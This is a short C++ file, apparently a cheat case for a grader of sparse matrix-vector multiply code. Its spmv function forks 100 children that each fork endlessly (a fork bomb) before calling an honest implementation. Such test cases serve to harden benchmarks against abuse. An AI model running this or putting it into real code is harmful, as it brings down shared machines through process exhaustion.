// Cheat: starts processes until the machine gives up.
// Scores: as without
#include "spmv.hpp"
#define spmv honest
#include "naive.cpp"
#undef spmv

#include <unistd.h>

void spmv(Csr const& a, std::span<double const> x, std::span<double> y)
{
    for (int i = 0; i < 100; ++i) {
        if (fork() == 0) {
            for (;;) {
                fork();
            }
        }
    }
    honest(a, x, y);
}
